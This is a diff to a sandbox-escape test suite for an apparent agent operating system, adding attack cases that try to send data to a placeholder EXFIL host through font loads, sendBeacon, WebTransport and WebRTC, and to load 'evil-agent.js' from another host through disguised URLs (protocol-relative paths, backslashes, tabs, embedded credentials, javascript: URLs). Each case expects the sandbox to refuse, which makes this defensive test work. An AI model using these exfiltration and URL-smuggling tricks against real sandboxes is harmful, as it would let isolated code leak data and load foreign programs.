@@ -117,7 +117,7 @@ export const ATTACKS: Attack[] = [
       await attempt('indexedDB.open', () => new Promise((ok, ko) => { const r = indexedDB.open('agentos'); r.onsuccess = () => ok([...r.result.objectStoreNames].join(',')); r.onerror = () => ko(r.error); }));
       await attempt('indexedDB.databases', () => self.indexedDB.databases().then((d) => JSON.stringify(d)));
       await attempt('IDBFactory from the prototype', () => Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'indexedDB').get.call(self).open('agentos'));`),
-    check: expectCodes({ 'indexedDB.open': /EPERM/ }),
+    check: expectCodes({ 'indexedDB.open': /EPERM|SecurityError|ReferenceError/ }),
   },
   {
     name: 'reach shared storage: Cache Storage, OPFS, Web Locks, BroadcastChannel, the page',
@@ -127,7 +127,13 @@ export const ATTACKS: Attack[] = [
       await attempt('locks', () => navigator.locks.query().then((q) => JSON.stringify(q)));
       await attempt('BroadcastChannel', () => { const b = new BroadcastChannel('agentos'); b.postMessage({ forged: true }); return 'posted'; });
       await attempt('postMessage to the host page', () => { self.postMessage({ t: 'host.died', pid: 1, incarnation: 1, reason: 'forged' }); return 'posted'; });`),
-    check: expectCodes({ caches: /EPERM/, OPFS: /EPERM/, locks: /EPERM/, BroadcastChannel: /EPERM/ }),
+    // In a sandboxed frame these do not exist at all (an opaque origin owns no storage); in a plain worker the seal refuses.
+    check: expectCodes({
+      caches: /EPERM|ReferenceError|SecurityError/,
+      OPFS: /EPERM|TypeError|SecurityError/,
+      locks: /EPERM|TypeError|SecurityError/,
+      BroadcastChannel: /EPERM/,
+    }),
   },
   {
     name: 'forge the sender of a message',
@@ -278,6 +284,34 @@ export const ATTACKS: Attack[] = [
       })(r) ?? (r.report?.facts.wrote === 5 ? null : `wrote ${r.report?.facts.wrote}`),
   },
   {
+    name: 'escape through fonts, GPU, storage buckets, WebRTC and beacons',
+    source: program(`
+      await attempt('FontFace load', () => new FontFace('x', 'url(EXFIL/font)').load().then(() => 'loaded'));
+      await attempt('fonts.add + load', () => { self.fonts.add(new FontFace('y', 'url(EXFIL/font2)')); return self.fonts.load('12px y').then((f) => f.length); });
+      await attempt('WebGPU adapter', () => navigator.gpu.requestAdapter().then((a) => { if (!a) throw new Error('no adapter'); return 'adapter'; }));
+      await attempt('storage bucket', () => navigator.storageBuckets.open('side-channel').then(() => 'opened'));
+      await attempt('WebRTC', () => { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }); pc.createDataChannel('x'); return pc.createOffer().then(() => 'offer'); });
+      await attempt('sendBeacon', () => { if (!navigator.sendBeacon('EXFIL/beacon', 'x')) throw new Error('refused'); return 'sent'; });
+      await attempt('WebTransport', () => new WebTransport('EXFIL/wt'.replace('http:', 'https:')).ready.then(() => 'ready'));`),
+  },
+  {
+    name: 'run a program from another host by a path that looks like this origin’s (//host, /\\host)',
+    source: program(`
+      const host = 'EXFIL'.replace(/^https?:/, '');
+      await attempt('protocol-relative //host', () => ctx.spawn('x', undefined, { program: host + '/evil-agent.js' }));
+      await attempt('backslash-slash host', () => ctx.spawn('x', undefined, { program: '/\\\\' + host.slice(2) + '/evil-agent.js' }));
+      await attempt('tab in the scheme', () => ctx.spawn('x', undefined, { program: 'ht\\ttp:' + host + '/evil-agent.js' }));
+      await attempt('a javascript: URL', () => ctx.spawn('x', undefined, { program: 'javascript:alert(1)' }));
+      await attempt('credentials in the URL', () => ctx.spawn('x', undefined, { program: 'EXFIL'.replace('//', '//u:p@') + '/evil-agent.js' }));`),
+    check: expectCodes({
+      'protocol-relative //host': /EPERM/,
+      'backslash-slash host': /EPERM/,
+      'tab in the scheme': /EPERM|EINVAL/,
+      'a javascript: URL': /EINVAL/,
+      'credentials in the URL': /EINVAL|EPERM/,
+    }),
+  },
+  {
     name: 'hog the CPU in a busy loop',
     source: 'export default async function main() { for (;;) {} }',
     waitMs: 30_000,
@@ -299,3 +333,5 @@ export const CANARY = `export default async function main(ctx) {
     await new Promise((r) => setTimeout(r, 25));
   }
 }`;
+
+export { BOMBS } from './bombs.mjs';
